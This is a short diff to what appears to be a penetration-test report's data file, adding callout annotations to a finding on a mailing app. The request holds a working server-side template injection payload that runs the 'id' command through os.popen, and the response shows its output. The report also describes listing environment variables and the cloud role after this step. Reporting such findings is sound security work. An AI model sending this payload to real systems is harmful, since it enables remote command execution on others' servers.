@@ -42,8 +42,9 @@ Host: app.mailing.example
 Authorization: Bearer <trial account>
 Content-Type: application/json
 
-{"subject":"Probe","body":"Hello {-{{ cycler.__init__.__globals__.os.popen('id').read() }}-}"}
+{"subject":"Probe","body":"Hello {-{{ cycler.__init__.__globals__.os.popen('id').read() }}-}"} {#1}
 `,
+      ['an expression where a name belongs'],
     ),
     response: code(
       'http',
@@ -52,8 +53,9 @@ Content-Type: application/json
 HTTP/1.1 200 OK
 Content-Type: application/json
 
-{"html":"Hello {+uid=10001(mailer) gid=10001(mailer) groups=10001(mailer)+}\\n"}
+{"html":"Hello {+uid=10001(mailer) gid=10001(mailer) groups=10001(mailer)+}\\n"} {#2}
 `,
+      ['the output of a command on the mail worker'],
     ),
     note: '`id` was the only command we ran before we called the client. With the client on the line we ran two more: the names of environment variables without values, and the identity of the cloud role.',
   },
